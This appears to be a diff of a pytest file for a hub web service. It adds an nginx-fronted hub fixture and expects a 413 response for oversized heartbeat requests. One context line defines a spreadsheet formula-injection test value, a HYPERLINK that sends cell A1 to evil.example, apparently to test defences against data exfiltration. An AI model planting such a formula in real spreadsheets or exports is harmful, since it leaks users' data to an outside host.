@@ -5,11 +5,14 @@ from __future__ import annotations
 
 import json
 import sqlite3
+from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 import requests
 
-from tests.hub.conftest import connect, log_in
+from tests.helpers.hub import HubHandle, running_hub
+from tests.hub.conftest import NGINX_SMALL_BODY, Front, behind_nginx, connect, log_in
 
 QUEUE = {
     "dossiers_waiting": 1, "oldest_dossier_code": "D-1", "oldest_finished_at": None,
@@ -18,6 +21,12 @@ QUEUE = {
 }  # fmt: skip
 EVENT = {"id": 1, "kind": "page_stored", "at": "2026-12-01T08:00:00Z"}
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.fixture
+def hub(tmp_path: Path, front: Front) -> Iterator[HubHandle]:
+    with running_hub(tmp_path / "hub") as direct, front(direct) as handle:
+        yield handle
 
 
 def _facts(**queue: object) -> dict[str, object]:
@@ -74,7 +83,12 @@ def test_heartbeats_are_checked_in_length_and_range(station) -> None:
         {**base, "queue": {"queued": 0, "failed": 0, "oldest_queued_at": "9999-01-01T00:00:00Z"}},
     ]
     for beat in odd:
-        assert _is_4xx_json(station.post("/api/v1/heartbeat", json=beat))
+        answer = station.post("/api/v1/heartbeat", json=beat)
+        if behind_nginx(station.hub) and len(json.dumps(beat)) > NGINX_SMALL_BODY:
+            # The shipped site's cap for small requests: nginx answers before the hub.
+            assert answer.status_code == 413 and "<center>nginx</center>" in answer.text
+        else:
+            assert _is_4xx_json(answer), answer.text[:200]
     assert station.post("/api/v1/heartbeat", json=base).status_code == 204
 
 
